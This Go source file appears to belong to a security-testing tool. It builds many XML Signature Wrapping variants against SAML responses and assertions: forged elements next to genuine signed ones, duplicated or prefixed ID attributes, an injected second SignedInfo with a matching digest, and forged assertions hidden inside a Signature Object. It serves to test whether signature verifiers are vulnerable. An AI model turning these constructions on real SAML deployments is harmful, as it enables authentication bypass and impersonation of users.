package fault

import (
	"errors"
	"slices"

	"github.com/beevik/etree"
)

// laterWrappings were found in products after the paper.
func laterWrappings() []wrapping {
	return []wrapping{
		{name: "9", arrange: func(s *scene) {
			placeSignature(s.forged, s.signature)
			wrapper := etree.NewElement("Wrapper")
			wrapper.CreateAttr("xmlns", "urn:example:wrapper")
			wrapper.AddChild(s.genuine)
			s.m.extensionsOf().AddChild(wrapper)
		}, finish: addSignedInfo},
		{name: "forged-last", inside: true, arrange: func(s *scene) {
			s.keep()
			insertAfter(s.genuine, s.forged)
		}},
		{name: "genuine-in-extensions", arrange: func(s *scene) {
			placeSignature(s.genuine, s.signature)
			s.m.extensionsOf().AddChild(s.genuine)
		}},
		{name: "genuine-in-status-detail", arrange: func(s *scene) {
			placeSignature(s.forged, s.signature)
			s.statusDetail().AddChild(s.genuine)
		}},
		{name: "same-id-twin", arrange: func(s *scene) {
			s.forged.CreateAttr("ID", s.id())
			s.keep()
		}},
		{name: "genuine-in-advice", arrange: func(s *scene) {
			placeSignature(s.genuine, s.signature)
			s.forged = s.forgedAssertion()
			advice := sibling(s.forged, "Advice")
			advice.AddChild(s.genuine)
			if conditions := s.forged.SelectElement("Conditions"); conditions != nil {
				insertAfter(conditions, advice)
				return
			}
			s.forged.AddChild(advice)
		}},
		{name: "forged-in-object", arrange: forgeInObject},
		{name: "digest-smuggled", arrange: func(s *scene) {
			s.forged.CreateAttr("ID", s.id())
			placeSignature(s.forged, s.signature)
		}, finish: smuggleDigest},
		{name: "look-alike-assertion", arrange: func(s *scene) {
			forged := s.forgedAssertion()
			forged.CreateAttr("xmlns:"+forged.Space, assertionNamespace+"/")
			s.keep()
		}},
		{name: "look-alike-signature", arrange: func(s *scene) {
			lookAlike := s.signature.Copy()
			for i, a := range lookAlike.Attr {
				if a.Value == signatureNamespace {
					lookAlike.Attr[i].Value = signatureNamespace + "signature"
				}
			}
			placeSignature(s.forged, lookAlike)
			placeSignature(s.genuine, s.signature)
			s.m.extensionsOf().AddChild(s.genuine)
		}},
	}
}

// pollutedWrappings give the forged element two IDs, its own and the signed
// one: with and without prefix, or the same attribute twice.
func pollutedWrappings() []wrapping {
	return []wrapping{
		{name: "prefixed-id", arrange: func(s *scene) {
			s.forged.CreateAttr(s.forged.Space+":ID", s.id())
			s.keep()
		}},
		{name: "prefixed-id-swapped", arrange: func(s *scene) {
			s.forged.CreateAttr("ID", s.id())
			s.forged.CreateAttr(s.forged.Space+":ID", forgedID)
			s.keep()
		}},
		{name: "repeated-id", arrange: (*scene).keep, finish: func(s *scene) error {
			return s.repeatID(forgedID, s.id())
		}},
		{name: "repeated-id-swapped", arrange: (*scene).keep, finish: func(s *scene) error {
			return s.repeatID(s.id(), forgedID)
		}},
	}
}

// id is what the signature refers to.
func (s *scene) id() string { return s.genuine.SelectAttrValue("ID", "") }

// repeatID writes the ID of the forged element twice, which no tree can hold.
func (s *scene) repeatID(first, second string) error {
	s.m.rewrite(replacing(` ID="`+forgedID+`"`, ` ID="`+first+`" ID="`+second+`"`))
	return nil
}

func (s *scene) statusDetail() *etree.Element {
	detail := sibling(s.root, "StatusDetail")
	s.root.SelectElement("Status").AddChild(detail)
	return detail
}

// addSignedInfo adds a second SignedInfo, with a right digest of the forged
// element, to the one that the signature value belongs to.
func addSignedInfo(s *scene) error {
	value, err := s.digest()
	if err != nil {
		return err
	}
	info := s.signature.SelectElement("SignedInfo")
	second := info.Copy()
	reference := second.SelectElement("Reference")
	reference.CreateAttr("URI", "#"+forgedID)
	reference.SelectElement("DigestValue").SetText(value)
	at := info.Index() + 1
	if s.order == forgedFirst {
		at = info.Index()
	}
	s.signature.InsertChildAt(at, second)
	return nil
}

// forgeInObject leaves the genuine element where it is and hides a forged
// Assertion where the signature does not look: in itself.
func forgeInObject(s *scene) {
	forged := s.forgedAssertion()
	if s.root == s.forged {
		s.root = s.genuine
	} else {
		insertAfter(s.forged, s.genuine)
	}
	placeSignature(s.genuine, s.signature)
	object := sibling(s.signature, "Object")
	object.AddChild(forged)
	s.signature.AddChild(object)
	s.forged = forged
}

// smuggleDigest puts the digest of the forged element before the signed one,
// where its own value does not count: outside the Assertion, or inside the
// Signature of the Response.
func smuggleDigest(s *scene) error {
	text, err := s.digest()
	if err != nil {
		return err
	}
	value := etree.NewElement("ds:DigestValue")
	value.CreateAttr("xmlns:ds", signatureNamespace)
	value.SetText(text)
	if s.root != s.forged {
		s.statusDetail().AddChild(value)
		return nil
	}
	object := sibling(s.signature, "Object")
	object.AddChild(value)
	s.signature.InsertChildAt(0, object)
	return nil
}

// digest is the DigestValue that a signature would have for the forged element,
// which holds the Signature already.
func (s *scene) digest() (string, error) {
	return s.m.digestWithout(s.forged, s.signature)
}

// digestWithout is the DigestValue that a signature would have for an element
// which holds it already.
func (m *Message) digestWithout(el, signature *etree.Element) (string, error) {
	if m.Digest == nil {
		return "", errors.New("nobody here can compute digests")
	}
	at := signature.Index()
	el.RemoveChildAt(at)
	defer el.InsertChildAt(at, signature)
	return m.Digest(el)
}

// The orders in which forged and genuine can stand.
const (
	genuineFirst = "genuine-first"
	forgedFirst  = "forged-first"
)

// arrangeInOrder moves the branch that holds one of the two before or after
// that of the other. Where one encloses the other, the inner one's branch
// becomes the outer one's first or last child.
func arrangeInOrder(genuine, forged *etree.Element, order string) {
	if order == "" || genuine.Parent() == nil && forged.Parent() == nil {
		return
	}
	first, second := genuine, forged
	if order == forgedFirst {
		first, second = forged, genuine
	}
	above := ancestors(second)
	at := slices.IndexFunc(ancestors(first), func(el *etree.Element) bool { return slices.Contains(above, el) })
	if at < 0 {
		return
	}
	common := ancestors(first)[at]
	switch common {
	case second:
		common.InsertChildAt(0, branch(common, first))
	case first:
		common.AddChild(branch(common, second))
	default:
		moved := branch(common, first)
		moved.Remove()
		common.InsertChildAt(branch(common, second).Index(), moved)
	}
}

// ancestors returns el and everything around it, inside out.
func ancestors(el *etree.Element) []*etree.Element {
	var all []*etree.Element
	for ; el != nil; el = el.Parent() {
		all = append(all, el)
	}
	return all
}

// branch returns the child of common that is or holds el.
func branch(common, el *etree.Element) *etree.Element {
	for el.Parent() != common {
		el = el.Parent()
	}
	return el
}
